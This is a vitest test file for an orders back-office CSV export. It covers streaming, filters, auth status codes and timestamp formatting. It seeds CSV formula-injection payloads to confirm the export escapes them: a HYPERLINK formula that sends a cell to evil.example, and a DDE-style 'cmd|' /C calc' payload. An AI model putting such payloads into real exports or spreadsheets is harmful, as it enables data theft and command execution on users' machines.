import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Currency, Customer, OrderExportInput } from '@orders/shared';
import { parseCsv, seedOrders, startBackofficeEnv, type BackofficeTestEnv, type StaffSession } from '../support/backoffice.ts';
import { buyerChooses } from '../support/paypal-server.ts';

const SEEDED = 2_500;
const HEADER = [
  'order_id', 'created_at', 'updated_at', 'paid_at', 'status', 'customer_type', 'customer_id', 'currency',
  'total', 'total_minor', 'refunded', 'refunded_minor', 'payment_status', 'paypal_sale_id', 'paypal_payment_id', 'payer_email',
  'payer_name', 'customer_email', 'customer_name',
];
const column = (name: string) => HEADER.indexOf(name);

let env: BackofficeTestEnv;
let viewer: StaffSession;
const awkward: Customer = { type: 'anonymous', id: `=HYPERLINK("x"), "quoted", and\nnewline ${randomUUID()}` };
/** Names and emails staff typed or PayPal sent, which a spreadsheet would run as formulas. */
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1, "Click me")';
const HOSTILE_EMAIL = `-2+3@${randomUUID().slice(0, 8)}.example`;
let paid: { orderId: string; customerEmail: string };
let named: string;

async function orderFor(customer: Customer, unitPrice: number, currency: Currency, who: { customerEmail?: string; customerName?: string } = {}) {
  const sku = `SKU-${randomUUID().slice(0, 8)}`;
  await env.client.catalog.upsertProduct.mutate({ sku, name: `Thing ${sku}`, unitPrice, currency, stock: 100 });
  const cart = await env.client.carts.create.mutate({ customer });
  await env.client.carts.setItem.mutate({ customer, cartId: cart.id, sku, quantity: 1 });
  return env.client.orders.create.mutate({ customer, cartId: cart.id, ...who });
}

/** An order the simulator's buyer (Test Buyer, buyer@example.com) paid through the approval page. */
async function paidOrder() {
  const customer: Customer = { type: 'user', id: `export-paid-${randomUUID()}` };
  const customerEmail = `shopper-${randomUUID().slice(0, 8)}@example.com`;
  const order = await orderFor(customer, 2500, 'USD', { customerEmail, customerName: 'Ada Lovelace' });
  const attempt = await env.client.payments.attemptToPay.mutate({ customer, orderId: order.id });
  await buyerChooses(env, attempt.externalId, 'approve');
  return { orderId: order.id, customerEmail };
}

beforeAll(async () => {
  env = await startBackofficeEnv();
  viewer = await env.staff('viewer');
  await seedOrders(env, SEEDED, 'export');
  await orderFor(awkward, 1999, 'USD');
  await orderFor(awkward, 1500, 'JPY');
  paid = await paidOrder();
  named = (await orderFor({ type: 'user', id: `export-named-${randomUUID()}` }, 700, 'EUR', { customerEmail: HOSTILE_EMAIL, customerName: HOSTILE_NAME })).id;
});
afterAll(() => env.close());

async function viaTrpc(input: OrderExportInput) {
  const chunks: string[] = [];
  for await (const chunk of await viewer.client.backoffice.orders.exportCsv.query(input)) chunks.push(chunk);
  return { text: chunks.join(''), chunks };
}

function viaHttp(query: string, token: string | null = viewer.token) {
  return fetch(`${env.server.url}/backoffice/api/orders.csv${query}`, token ? { headers: { authorization: `Bearer ${token}` } } : {});
}

describe('CSV export', () => {
  it('streams the whole filter through tRPC: header first, then batches of rows, all quoted properly', async () => {
    const { text, chunks } = await viaTrpc({});
    const [header, ...records] = parseCsv(text);
    expect(header).toEqual(HEADER);
    expect(records).toHaveLength(SEEDED + 4);
    expect(new Set(records.map((r) => r[0])).size).toBe(SEEDED + 4);
    // Streamed as PostgreSQL's COPY sends it: the export never holds the whole result.
    expect(chunks.length).toBeGreaterThan(1);
    const total = await viewer.client.backoffice.orders.search.query({ limit: 1 });
    expect(total.total.exact).toBe(true);
    expect(records).toHaveLength(total.total.value);

    const mine = records.filter((r) => r[6] === `'${awkward.id}`);
    expect(mine).toHaveLength(2);
    const usd = mine.find((r) => r[7] === 'USD')!;
    const jpy = mine.find((r) => r[7] === 'JPY')!;
    expect(usd.slice(4, 12)).toEqual(['pending', 'anonymous', `'${awkward.id}`, 'USD', '19.99', '1999', '0.00', '0']);
    expect(jpy.slice(8, 12)).toEqual(['1500', '1500', '0', '0']);
    expect(text).toContain(`"'=HYPERLINK(""x""), ""quoted"", and\nnewline`);
  });

  it('exports exactly the current filter and sort', async () => {
    const filter: OrderExportInput = { status: ['paid', 'refunded'], currency: 'EUR', sort: 'total', direction: 'asc' };
    const { text } = await viaTrpc(filter);
    const [, ...records] = parseCsv(text);
    const search = await viewer.client.backoffice.orders.search.query({ ...filter, limit: 500 });
    expect(records.map((r) => r[0])).toEqual(search.items.map((r) => r.id));
    // Timestamps and money written by PostgreSQL read exactly as the API writes them.
    expect(records.map((r) => [r[1], r[2], r[3] || null])).toEqual(search.items.map((r) => [r.createdAt, r.updatedAt, r.paidAt]));
    expect(records.map((r) => Number(r[10]) * (r[7] === 'JPY' ? 1 : 100))).toEqual(search.items.map((r) => r.refundedAmount));
    expect(records).toHaveLength(search.total.value);
    expect(records.every((r) => ['paid', 'refunded'].includes(r[4]!) && r[7] === 'EUR')).toBe(true);
  });

  it('carries the customer and the payer as the list shows them: customer email and name, payer name and email', async () => {
    const { text } = await viaTrpc({ status: ['paid'], currency: 'USD' });
    const [, ...records] = parseCsv(text);
    const row = records.find((r) => r[0] === paid.orderId)!;
    expect(row).toBeDefined();
    const listed = await viewer.client.backoffice.orders.get.query({ orderId: paid.orderId });
    expect(listed.order).toMatchObject({ customerEmail: paid.customerEmail, customerName: 'Ada Lovelace', payerEmail: 'buyer@example.com', payerName: 'Test Buyer' });
    expect(row[column('customer_email')]).toBe(paid.customerEmail);
    expect(row[column('customer_name')]).toBe('Ada Lovelace');
    expect(row[column('payer_name')]).toBe('Test Buyer');
    expect(row[column('payer_email')]).toBe('buyer@example.com');

    // The payer is the one who paid (the order's), not whoever approved the latest attempt.
    await env.pool.query(`update order_payment_attempt set payer_email = 'someone-else@example.com' where order_id = $1`, [paid.orderId]);
    const [, ...again] = parseCsv((await viaTrpc({ status: ['paid'], currency: 'USD' })).text);
    expect(again.find((r) => r[0] === paid.orderId)![column('payer_email')]).toBe('buyer@example.com');

    // Every row's names and emails read as the list reads them.
    const search = await viewer.client.backoffice.orders.search.query({ status: ['paid'], currency: 'USD', limit: 500 });
    expect(again.map((r) => [r[0], r[column('customer_email')], r[column('customer_name')], r[column('payer_name')], r[column('payer_email')]])).toEqual(
      search.items.map((r) => [r.id, r.customerEmail ?? '', r.customerName ?? '', r.payerName ?? '', r.payerEmail ?? '']),
    );
  });

  it('guards the name and email columns against formulas: a leading = + - @ is written after an apostrophe', async () => {
    await env.pool.query(`update "order" set payer_name = $2, payer_email = $3 where id = $1`, [named, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1-555@example.com`]);
    const { text } = await viaTrpc({ currency: 'EUR', customerId: (await viewer.client.backoffice.orders.get.query({ orderId: named })).order.customer.id });
    const [, row] = parseCsv(text);
    expect(row![0]).toBe(named);
    expect(row![column('customer_name')]).toBe(`'${HOSTILE_NAME}`);
    expect(row![column('customer_email')]).toBe(`'${HOSTILE_EMAIL}`);
    expect(row![column('payer_name')]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(row![column('payer_email')]).toBe(`'+1-555@example.com`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1, ""Click me"")"`);
  });

  it('is a plain HTTP download with a bearer token, the same bytes as the tRPC stream', async () => {
    const response = await viaHttp('?status=paid&status=refunded&currency=EUR&sort=total&direction=asc');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="orders-[\d-]+\.csv"$/);
    const body = await response.text();
    expect(body).toBe((await viaTrpc({ status: ['paid', 'refunded'], currency: 'EUR', sort: 'total', direction: 'asc' })).text);

    const all = await viaHttp('');
    expect(parseCsv(await all.text())).toHaveLength(SEEDED + 5);
    const comma = await viaHttp('?status=paid,pending&amountMin=1000&amountMax=5000&customerType=user');
    const [, ...records] = parseCsv(await comma.text());
    expect(records.length).toBeGreaterThan(0);
    expect(records.every((r) => ['paid', 'pending'].includes(r[4]!) && Number(r[9]) >= 1000 && Number(r[9]) <= 5000 && r[5] === 'user')).toBe(true);
  });

  it('a download the client abandons gives its connection back: more abandoned exports than the pool holds, then one that completes', async () => {
    for (let i = 0; i < 14; i++) {
      const abort = new AbortController();
      const response = await fetch(`${env.server.url}/backoffice/api/orders.csv`, { headers: { authorization: `Bearer ${viewer.token}` }, signal: abort.signal });
      const reader = response.body!.getReader();
      await reader.read();
      abort.abort();
      await reader.cancel().catch(() => undefined);
    }
    const complete = await viaHttp('');
    expect(complete.status).toBe(200);
    expect(parseCsv(await complete.text())).toHaveLength(SEEDED + 5);
    const { rows } = await env.pool.query(`select count(*)::int as n from pg_stat_activity where query ilike 'copy (%' and state = 'active'`);
    expect(rows[0].n).toBe(0);
  });

  it('HTTP: no token 401, a service key 403, a bad filter 400 naming the field', async () => {
    expect((await viaHttp('', null)).status).toBe(401);
    expect((await viaHttp('', 'not-a-real-token')).status).toBe(401);
    expect((await viaHttp('', 'test-service-key-0123456789abcdef')).status).toBe(403);
    const bad = await viaHttp('?status=shipped');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ error: { code: 'BAD_REQUEST', message: expect.stringContaining('status') } });
    expect((await viaHttp('?amountMin=lots')).status).toBe(400);
    expect((await viaHttp('?surprise=1')).status).toBe(400);
    expect((await viaHttp('?createdFrom=0000-01-01T00:00:00Z')).status).toBe(400);
  });

  it('writes each timestamp as the API does, to the millisecond, and guards a leading tab or carriage return', async () => {
    const order = await orderFor({ type: 'user', id: `export-edges-${randomUUID()}` }, 900, 'GBP', { customerName: 'Edge Case' });
    // Fractions whose trailing zeros PostgreSQL leaves out of its text, and one a microsecond short of the next millisecond.
    await env.pool.query(
      `update "order" set created_at = '2026-03-04 05:06:07.999999+00', updated_at = '2026-03-04 05:06:08+00',
              paid_at = '2026-03-04 07:06:08.1+02', payer_name = $2, customer_name = $3 where id = $1`,
      // What the API trims away, written as an import or an older release might have.
      [order.id, '\tcmd', '\r=1+1'],
    );
    const { text } = await viaTrpc({ currency: 'GBP', customerId: order.customer.id });
    const [, row] = parseCsv(text);
    expect(row!.slice(1, 4)).toEqual(['2026-03-04T05:06:07.999Z', '2026-03-04T05:06:08.000Z', '2026-03-04T05:06:08.100Z']);
    const listed = (await viewer.client.backoffice.orders.get.query({ orderId: order.id })).order;
    expect(row!.slice(1, 4)).toEqual([listed.createdAt, listed.updatedAt, listed.paidAt]);
    expect(row![column('payer_name')]).toBe(`'\tcmd`);
    expect(row![column('customer_name')]).toBe(`'\r=1+1`);
  });
});
